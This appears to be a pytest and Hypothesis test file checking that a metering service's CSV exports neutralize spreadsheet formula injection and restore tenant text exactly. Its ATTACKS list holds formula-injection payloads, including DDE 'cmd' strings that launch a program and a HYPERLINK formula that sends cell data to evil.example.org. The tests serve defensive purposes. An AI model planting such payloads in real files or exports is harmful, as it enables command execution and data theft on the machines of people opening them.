"""A CSV export starts no formula in a spreadsheet, whatever text tenants chose, and can be read back exactly."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import example
from hypothesis import given
from hypothesis import settings
from hypothesis import strategies as st
from twisted.internet.defer import Deferred

from meter.spreadsheet import SUSPECT_FIRST_BYTES
from meter.spreadsheet import neutralize
from meter.spreadsheet import restore
from tests.api_client import ApiClient
from tests.api_client import message

PAGE = (Path(__file__).parents[2] / "docs/api.rst").read_text()
ATTACKS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "\t=1",
    "\r=1",
    "\n=1",
    "\tplain",
    " =1",
    "\u00a0=1",
    "\u3000=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\u22121",
    '"=1+1"',
    '"","=1"',
    "a;=1",
    'a";"=1',
    "a; =1",
    "a\t@SUM(1)",
    "a\n=1",
    "a\r\n-1",
    ";;=1",
    "'",
    "'=1",
    "''=1",
    ";'=1",
    "=",
    '=HYPERLINK("https://evil.example.org?"&A1)',
]
FORMULA = re.compile(r"[\s\"]*[=+\-@\uff1d\uff0b\uff0d\uff20\u2212]")
HOSTILE_TEXTS = st.text(alphabet="=+-@\uff1d'\";\t\r\n ,a1\u00a0", max_size=12)


def cells_of_any_spreadsheet(body: str) -> set[str]:
    """Return the cells that a spreadsheet can see in ``body``, by the separators and the quotation that it may assume."""
    found: set[str] = set()
    for separator in ",;\t":
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            for row in csv.reader(io.StringIO(body, newline=""), delimiter=separator, quoting=quoting):
                if separator == "," and quoting == csv.QUOTE_NONE:
                    continue  # no spreadsheet that splits at commas ignores the quotation marks
                found.update(row)
    return found


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def export(*texts: str, path: str = "/v2/samples?q.field=meter&q.value=odd", **sample: Any) -> str:
    """Return the CSV export of samples with each of ``texts`` in all members that a tenant chooses."""
    api = ApiClient()
    messages = [
        message(
            n,
            message_id=f"{text}{n}" if text.strip() else f"m{n}",
            **{
                "name": "odd",
                "type": "gauge",
                "volume": -1.5,
                "unit": text,
                "resource_id": text,
                "user_id": text,
                "source": text,
                "resource_metadata": {"key": text, text: "value"},
                **sample,
            },
        )
        for n, text in enumerate(texts)
    ]
    Deferred.fromCoroutine(api.store.write(messages))
    response = api(path, headers={"Accept": "text/csv"})
    assert response.status == 200
    return response.body.decode()


@pytest.mark.parametrize("path", ["/v2/samples?q.field=meter&q.value=odd", "/v2/meters/odd"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_an_export_is_a_formula(attack: str, path: str) -> None:
    body = export(attack, "plain", path=path)
    for cell in cells_of_any_spreadsheet(body):
        assert not FORMULA.match(cell) or is_number(cell), cell
        assert cell[:1] not in ("\t", "\r", "\n"), cell


@settings(max_examples=40)
@given(st.lists(HOSTILE_TEXTS.filter(bool), min_size=1, max_size=3))
@example(["-"])
@example(["-a", "+1", "=", "-1"])
def test_no_text_is_a_formula_and_each_can_be_restored(texts: list[str]) -> None:
    body = export(*texts)
    assert not [cell for cell in cells_of_any_spreadsheet(body) if FORMULA.match(cell) and not is_number(cell)]
    _, *rows = csv.reader(io.StringIO(body, newline=""))
    for text, row in zip(reversed(texts), rows, strict=True):
        assert [restore(cell) for cell in (row[3], row[5], row[7])] == [text] * 3


@given(st.text() | HOSTILE_TEXTS)
def test_neutralized_text_can_be_restored(text: str) -> None:
    assert restore(neutralize(text)) == text


@pytest.mark.parametrize("text", ["vm-1", "a=b", "10.0.0.1", "2026-11-22", "ä", "日本", "", "a b", "a'b", "カ"])
def test_harmless_text_is_unchanged(text: str) -> None:
    assert neutralize(text) == text


def test_numbers_stay_numbers() -> None:
    [_, row] = csv.reader(io.StringIO(export("=1"), newline=""))
    assert row[4] == "-1.5"


def test_export_looks_at_every_text_that_begins_as_a_formula_can_begin() -> None:
    begins = [chr(n) for n in range(0xFFFF) if not 0xD800 <= n < 0xE000]
    changed = {text.encode()[0] for text in begins if neutralize(text) != text or neutralize(f"{text}=") != f"{text}="}
    by_cell_starts = {ord(";")}
    assert changed - by_cell_starts == SUSPECT_FIRST_BYTES
    assert not re.search(r"\s", "".join(map(chr, range(0x3001, sys.maxunicode + 1))))


def test_metadata_is_the_same_json() -> None:
    [_, row] = csv.reader(io.StringIO(export('a;=1;"x'), newline=""))
    assert ";" not in row[11]
    assert json.loads(row[11]) == {"key": 'a;=1;"x', 'a;=1;"x': "value"}


def test_json_exports_are_not_changed() -> None:
    api = ApiClient()
    Deferred.fromCoroutine(api.store.write([message(name="odd", resource_id="=1;=2")]))
    for accept in ("application/json", "application/x-ndjson"):
        assert b'"=1;=2"' in api("/v2/meters/odd", headers={"Accept": accept}).body


def test_documented_snippet_reads_an_export_back(tmp_path: Path) -> None:
    [snippet] = re.findall(r"\.\. code-block:: python\n\n((?:   .*\n|\n)*?   .*restored.*\n(?:   .*\n|\n)*)", PAGE)
    (tmp_path / "samples.csv").write_bytes(export(*ATTACKS).encode())
    namespace: dict[str, Any] = {}
    code = "\n".join(line.removeprefix("   ") for line in snippet.splitlines())
    exec(code.replace('"samples.csv"', repr(str(tmp_path / "samples.csv"))), namespace)
    assert [row["resource_id"] for row in namespace["samples"]] == ATTACKS[::-1]
    assert [row["metadata"]["key"] for row in namespace["samples"]] == ATTACKS[::-1]
    assert {row["volume"] for row in namespace["samples"]} == {-1.5}
